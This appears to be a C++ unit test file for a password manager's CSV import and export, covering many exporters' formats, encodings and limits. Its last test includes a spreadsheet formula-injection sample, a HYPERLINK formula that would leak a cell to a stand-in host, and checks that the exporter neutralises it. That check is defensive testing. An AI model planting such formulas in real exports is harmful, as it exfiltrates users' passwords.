#include "formats/csv_list.h"

#include <gtest/gtest.h>

#include "tests/support/latin1_codec.h"

namespace tessaly {
namespace {

TEST(CsvList, ABrowsersExportWithQuotingAndLineBreaksIsReadWhole)
{
    const std::string file = "\xEF\xBB\xBFname,url,username,password,note\r\n"
                             "Bank,https://bank.example,amy,\"p,\"\"q\"\"\",\"two\r\nlines\"\r\n"
                             ",,bob,pw,\r\n"
                             "\r\n"
                             "Caf\xC3\xA9,,zoe,x\xE2\x82\xAC,\n";
    const CsvImport read = readCsvList(file, latin1ProgramCodec());
    ASSERT_EQ(read.problem, CsvProblem::None);
    const std::vector<PasswordEntry> expected{
        {"amy", "p,\"q\"", "Bank - https://bank.example - two\r\nlines"},
        {"bob", "pw", ""},
        {"zoe", "x?", "Caf\xE9"},
    };
    EXPECT_EQ(read.entries, expected);
    EXPECT_EQ(read.changed.count, 1u) << "the euro sign has no Latin-1 character";
    ASSERT_EQ(read.changed.first.size(), 1u);
    EXPECT_EQ(read.changed.first[0].title, "Caf\xE9");
    EXPECT_TRUE(read.changed.first[0].pass);
    EXPECT_FALSE(read.changed.first[0].user);
}

TEST(CsvList, ColumnsAreFoundByTheirNamesInAnyCaseAndSemicolonsSeparateWithoutCommas)
{
    const std::string semicolons = " E-Mail ;Login Name; PASS ;Description\n"
                                   "x@y.example;ann;s3;own words\n";
    const CsvImport read = readCsvList(semicolons, latin1ProgramCodec());
    ASSERT_EQ(read.problem, CsvProblem::None);
    EXPECT_EQ(read.entries, (std::vector<PasswordEntry>{{"ann", "s3", "own words - x@y.example"}}))
        << "an address beside the user name is kept in the description";

    const CsvImport mixed = readCsvList("title;note,login_username,login_password\nA;B,u,p\n", latin1ProgramCodec());
    ASSERT_EQ(mixed.problem, CsvProblem::None) << "a comma in the header: commas separate";
    EXPECT_EQ(mixed.entries, (std::vector<PasswordEntry>{{"u", "p", "title;note: A;B"}})) << "a field kept by its name";

    const CsvImport ansi = readCsvList("user,password\n\xF1o\xF1o,pw\n", latin1ProgramCodec());
    EXPECT_EQ(ansi.entries, (std::vector<PasswordEntry>{{"\xF1o\xF1o", "pw", ""}})) << "not UTF-8: already ANSI";
    EXPECT_EQ(ansi.changed.count, 0u);
}

TEST(CsvList, KnownExportsComeWholeWithTheirEscapesNotesAndAddresses)
{
    // KeePass 2 escapes a backslash and a quote inside quotes with a backslash.
    const CsvImport keepass = readCsvList(R"("Account","Login Name","Password","Web Site","Comments")"
                                          "\r\n"
                                          R"("Work","CORP\\jdoe","e\\p{v6\"x","https://intra.example","a \"b\"")"
                                          "\r\n",
                                          latin1ProgramCodec());
    ASSERT_EQ(keepass.problem, CsvProblem::None);
    EXPECT_EQ(keepass.entries,
              (std::vector<PasswordEntry>{{"CORP\\jdoe", "e\\p{v6\"x", "Work - https://intra.example - a \"b\""}}));

    // Elsewhere a backslash is a character like any other.
    const CsvImport plain = readCsvList("username,password\r\n\"CORP\\\\jdoe\",x\r\n", latin1ProgramCodec());
    EXPECT_EQ(plain.entries, (std::vector<PasswordEntry>{{"CORP\\\\jdoe", "x", ""}}));

    // LastPass keeps notes in "extra"; a login with only an e-mail address
    // (Proton Pass) takes it as the user name; RoboForm names the password "Pwd".
    const CsvImport lastPass = readCsvList("url,username,password,totp,extra,name,grouping,fav\n"
                                           "https://a.example,al,pw,,remember me,Shop,,0\n",
                                           latin1ProgramCodec());
    EXPECT_EQ(lastPass.entries, (std::vector<PasswordEntry>{{"al", "pw", "Shop - https://a.example - remember me"}}));
    const CsvImport proton = readCsvList("name,url,email,username,password,note\n"
                                         "Mail,,me@x.example,,pw1,\n"
                                         "Forum,,me@x.example,meme,pw2,\n",
                                         latin1ProgramCodec());
    EXPECT_EQ(proton.entries,
              (std::vector<PasswordEntry>{{"me@x.example", "pw1", "Mail"}, {"meme", "pw2", "Forum - me@x.example"}}));
    // The exporter is named where the whole header is one known.
    EXPECT_EQ(keepass.layout, "KeePass 2");
    EXPECT_EQ(lastPass.layout, "LastPass");
    EXPECT_EQ(proton.layout, "") << "not one known whole";
    const CsvImport keePassXc =
        readCsvList("\"Group\",\"Title\",\"Username\",\"Password\",\"URL\",\"Notes\",\"TOTP\","
                    "\"Icon\",\"Last Modified\",\"Created\"\n"
                    "\"Root\",\"Bank\",\"kim\",\"pw\",\"\",\"\",\"\",\"0\",\"2024-01-01\",\"2023-01-01\"\n",
                    latin1ProgramCodec());
    EXPECT_EQ(keePassXc.layout, "KeePassXC");
    EXPECT_EQ(keePassXc.entries, (std::vector<PasswordEntry>{{"kim", "pw", "Bank - Group: Root"}}))
        << "its icon and times are bookkeeping";
    const CsvImport roboForm = readCsvList("Name,Url,MatchUrl,Login,Pwd,Note,Folder,RfFieldsV2\n"
                                           "Bank,https://b.example,,rob,secret,,,\n",
                                           latin1ProgramCodec());
    EXPECT_EQ(roboForm.entries, (std::vector<PasswordEntry>{{"rob", "secret", "Bank - https://b.example"}}));
    EXPECT_EQ(roboForm.layout, "RoboForm");
}

TEST(CsvList, NothingARowSaysIsDroppedButFoldersAndBookkeeping)
{
    // Firefox's realm, a one-time password and a custom field come by their
    // names; times and ids do not; a folder row is skipped and counted.
    const CsvImport read = readCsvList("url,username,password,httpRealm,guid,timeCreated,totp,Folder,Pin\n"
                                       "https://a.example,ann,pw,Staff,{1},1700,JBSWY3DP,Work,1234\n"
                                       ",,,,{2},1700,,Home,\n",
                                       latin1ProgramCodec());
    ASSERT_EQ(read.problem, CsvProblem::None);
    EXPECT_EQ(read.entries,
              (std::vector<PasswordEntry>{
                  {"ann", "pw", "https://a.example - otp: JBSWY3DP - httpRealm: Staff - Folder: Work - Pin: 1234"}}));
    EXPECT_EQ(read.skippedRows, 1u);
    EXPECT_FALSE(read.repeatedColumns);

    // A name that stands twice: the first non-empty cell wins, and it is told.
    const CsvImport twice = readCsvList("username,password,username\nfirst,pw,second\n,pw2,only\n",
                                        latin1ProgramCodec());
    EXPECT_EQ(twice.entries, (std::vector<PasswordEntry>{{"first", "pw", ""}, {"only", "pw2", ""}}));
    EXPECT_TRUE(twice.repeatedColumns);
}

TEST(CsvList, SpreadsheetsUnicodeTextAndTabsAreRead)
{
    // "Unicode text": UTF-16 with a byte order mark, tab-separated.
    const std::u16string text = u"Username\tPassword\tTitle\r\nzo\u00EB\tp\u00E4ss\tCaf\u00E9 \U0001F600\r\n";
    std::string bytes = "\xFF\xFE";
    for (char16_t unit : text) {
        bytes += static_cast<char>(unit & 0xFF);
        bytes += static_cast<char>(unit >> 8);
    }
    const CsvImport read = readCsvList(bytes, latin1ProgramCodec());
    ASSERT_EQ(read.problem, CsvProblem::None);
    EXPECT_EQ(read.entries, (std::vector<PasswordEntry>{{"zo\xEB", "p\xE4ss", "Caf\xE9 ?"}}));
    EXPECT_EQ(read.changed.count, 1u) << "the emoji has no Latin-1 character";

    const CsvImport headerOnly = readCsvList("username,password\r\n", latin1ProgramCodec());
    EXPECT_EQ(headerOnly.problem, CsvProblem::NoEntries);
    EXPECT_TRUE(headerOnly.entries.empty());
}

TEST(CsvList, ProblemsNameTheirLineAndGiveNoEntries)
{
    struct Case {
        const char* file;
        CsvProblem problem;
        size_t line;
    };
    const Case cases[] = {
        {"", CsvProblem::NoHeader, 1},
        {"name,url,note\na,b,c\n", CsvProblem::MissingColumn, 1},
        {"username,notes\na,b\n", CsvProblem::MissingColumn, 1},
        {"user,pass\na,b\nc,\"open\nd,e\n", CsvProblem::BrokenQuoting, 3},
        {"user,pass\na,\"x\"y\n", CsvProblem::BrokenQuoting, 2},
        {"user,pass\na,b\"c\n", CsvProblem::BrokenQuoting, 2},
    };
    for (const Case& test : cases) {
        const CsvImport read = readCsvList(test.file, latin1ProgramCodec());
        EXPECT_EQ(read.problem, test.problem) << test.file;
        EXPECT_EQ(read.problemLine, test.line) << test.file;
        EXPECT_TRUE(read.entries.empty()) << test.file;
    }
}

TEST(CsvList, ARecordOfMoreFieldsThanAnyExportIsRefusedAtItsLine)
{
    const std::string fields(kMaxCsvFields - 1, ',');
    // As many fields as allowed still read.
    const CsvImport most = readCsvList("user,pass\na,b" + fields.substr(2) + "\n", latin1ProgramCodec());
    EXPECT_EQ(most.problem, CsvProblem::None);
    ASSERT_EQ(most.entries.size(), 1u);
    EXPECT_EQ(most.entries[0].pass, "b");
    // A file of commas, which once took a string for each.
    const CsvImport commas = readCsvList("user,pass\na,b\n" + std::string(4 * kMaxCsvFields, ','),
                                         latin1ProgramCodec());
    EXPECT_EQ(commas.problem, CsvProblem::TooManyFields);
    EXPECT_EQ(commas.problemLine, 3u);
    EXPECT_TRUE(commas.entries.empty());
    const CsvImport header = readCsvList(std::string(kMaxCsvFields, ',') + "\n", latin1ProgramCodec());
    EXPECT_EQ(header.problem, CsvProblem::TooManyFields);
    EXPECT_EQ(header.problemLine, 1u);
}

TEST(CsvList, AZeroByteOrAFieldLongerThanAnyNoteStopsTheImportAtItsLine)
{
    const CsvImport zero = readCsvList(std::string("user,pass\na,b\nc,\"d\0e\"\n", 22), latin1ProgramCodec());
    EXPECT_EQ(zero.problem, CsvProblem::ZeroByte);
    EXPECT_EQ(zero.problemLine, 3u);
    EXPECT_TRUE(zero.entries.empty());

    const std::string longest(kMaxCsvFieldBytes, 'n');
    const CsvImport most = readCsvList("user,pass,notes\na,b," + longest + "\n", latin1ProgramCodec());
    ASSERT_EQ(most.problem, CsvProblem::None);
    EXPECT_EQ(most.entries[0].description, longest);
    const CsvImport longer = readCsvList("user,pass,notes\na,b,c\nd,e,\"" + longest + "n\"\nf,g,h\n",
                                         latin1ProgramCodec());
    EXPECT_EQ(longer.problem, CsvProblem::FieldTooLong);
    EXPECT_EQ(longer.problemLine, 3u);
    EXPECT_TRUE(longer.entries.empty());
}

TEST(CsvList, KeeperEnpassAndSecureSafeRowsAreReadAsTheirExportersWriteThem)
{
    // Keeper: no header; folder, title, login, password, address, notes,
    // shared folder, then custom fields as name and value.
    const CsvImport keeper = readCsvList("Work,Bank,kim,pw1,https://b.example,\"two\nlines\",,TFC:Keeper,JBSWY3DP,"
                                         "PIN,1234\n"
                                         "Home,Forum,,pw2,,,Family\n"
                                         "Archive,,,,,,\n",
                                         latin1ProgramCodec());
    ASSERT_EQ(keeper.problem, CsvProblem::None);
    EXPECT_EQ(keeper.layout, "Keeper");
    EXPECT_EQ(keeper.entries,
              (std::vector<PasswordEntry>{
                  {"kim", "pw1", "Bank - https://b.example - two\nlines - otp: JBSWY3DP - Folder: Work - PIN: 1234"},
                  {"", "pw2", "Forum - Folder: Home - Shared folder: Family"}}));
    EXPECT_EQ(keeper.skippedRows, 1u) << "a folder of its own";

    // Enpass: the title, label and value pairs, and the note last.
    const CsvImport enpass = readCsvList("\"Title\",\"Field\",\"Value\",\"Field\",\"Value\",\"Note\"\n"
                                         "\"Mail\",\"Username\",\"eve\",\"Email\",\"eve@x.example\",\"Password\","
                                         "\"pw3\",\"Website\",\"https://m.example\",\"keep\"\n"
                                         "\"Wifi\",\"Password\",\"pw4\",\"Security\",\"WPA2\"\n",
                                         latin1ProgramCodec());
    ASSERT_EQ(enpass.problem, CsvProblem::None);
    EXPECT_EQ(enpass.layout, "Enpass");
    EXPECT_EQ(enpass.entries,
              (std::vector<PasswordEntry>{{"eve", "pw3", "Mail - https://m.example - eve@x.example - keep"},
                                          {"", "pw4", "Wifi - Security: WPA2"}}));

    // SecureSafe: names in the user's language, everything between slashes.
    const CsvImport secureSafe = readCsvList("/Titel/,/Benutzername/,/Passwort/,/URL/,/Kommentar/\n"
                                             "/Bank/,/max/,/p\\w/,/https://b.example/,/alt/\n",
                                             latin1ProgramCodec());
    ASSERT_EQ(secureSafe.problem, CsvProblem::None);
    EXPECT_EQ(secureSafe.layout, "SecureSafe");
    EXPECT_EQ(secureSafe.entries, (std::vector<PasswordEntry>{{"max", "p\\w", "Bank - https://b.example - alt"}}));

    // The exporters that name their columns, by their whole header.
    for (const auto& [header, layout] : std::vector<std::pair<std::string, std::string>>{
             {"Title,Url,Username,Password,OTPAuth,Favorite,Archived,Tags,Notes", "1Password"},
             {"type,name,url,email,username,password,note,totp,createTime,modifyTime,vault", "Proton Pass"},
             {"name,url,username,password,note,cardholdername,cardnumber,cvc,expirydate,zipcode,folder", "NordPass"},
             {"username,password,a,b,c,d", ""}}) {
        std::string row = "x";
        for (char c : header) row += c == ',' ? ",x" : "";
        EXPECT_EQ(readCsvList(header + "\n" + row + "\n", latin1ProgramCodec()).layout, layout) << header;
    }
}

TEST(CsvList, AnAliasWithoutAPasswordIsNoLoginButARowWithoutAKindKeepsItsUserName)
{
    const CsvImport proton = readCsvList("type,name,url,email,username,password,note,totp,vault\n"
                                         "login,Mail,,me@x.example,,pw1,,,Personal\n"
                                         "alias,Shop alias,,shop.k2@alias.example,,,,,Personal\n"
                                         "note,Memo,,,,,milk,,Personal\n",
                                         latin1ProgramCodec());
    ASSERT_EQ(proton.problem, CsvProblem::None);
    EXPECT_EQ(proton.entries, (std::vector<PasswordEntry>{{"me@x.example", "pw1", "Mail"}, {"", "", "Memo - milk"}}));
    EXPECT_EQ(proton.skippedRows, 1u);
    // This program's own export writes an entry without a password so.
    const CsvImport own = readCsvList("name,url,username,password,note\nForum,,ann,,\n", latin1ProgramCodec());
    EXPECT_EQ(own.entries, (std::vector<PasswordEntry>{{"ann", "", "Forum"}}));
}

TEST(CsvList, AnExportReadsBackAsTheSameList)
{
    const std::vector<PasswordEntry> list{{"amy", "a,b\"c", "Bank\r\nmain"}, {"\xF1u", "", "plain"}, {"", "x", ""}};
    const std::string written = writeCsvList(list, latin1ProgramCodec());
    EXPECT_EQ(written.substr(0, 36), "\xEF\xBB\xBFname,url,username,password,note\r\n");
    EXPECT_EQ(written.substr(36, 43), "\"Bank\r\nmain\",,amy,\"a,b\"\"c\",\r\nplain,,\xC3\xB1u,,\r\n");
    const CsvImport read = readCsvList(written, latin1ProgramCodec());
    ASSERT_EQ(read.problem, CsvProblem::None);
    EXPECT_EQ(read.entries, list);
}

TEST(CsvList, ANameASpreadsheetWouldRunIsWrittenAsTextAndTheSecretsStayExact)
{
    const std::vector<PasswordEntry> list{{"=amy", "+pw", "=HYPERLINK(\"https://x.example/?p=\"&D2)"},
                                          {"bob", "-1", "@SUM(1)"},
                                          {"carol", "x", "-note"},
                                          {"dave", "y", "plain = text"}};
    const CsvImport read = readCsvList(writeCsvList(list, latin1ProgramCodec()), latin1ProgramCodec());
    ASSERT_EQ(read.problem, CsvProblem::None);
    ASSERT_EQ(read.entries.size(), list.size());
    const std::vector<std::string> names{"'=HYPERLINK(\"https://x.example/?p=\"&D2)", "'@SUM(1)", "'-note",
                                         "plain = text"};
    for (size_t row = 0; row < list.size(); ++row) {
        EXPECT_EQ(read.entries[row].description, names[row]) << row;
        EXPECT_EQ(read.entries[row].user, list[row].user) << row;
        EXPECT_EQ(read.entries[row].pass, list[row].pass) << row;
    }
}

}  // namespace
}  // namespace tessaly
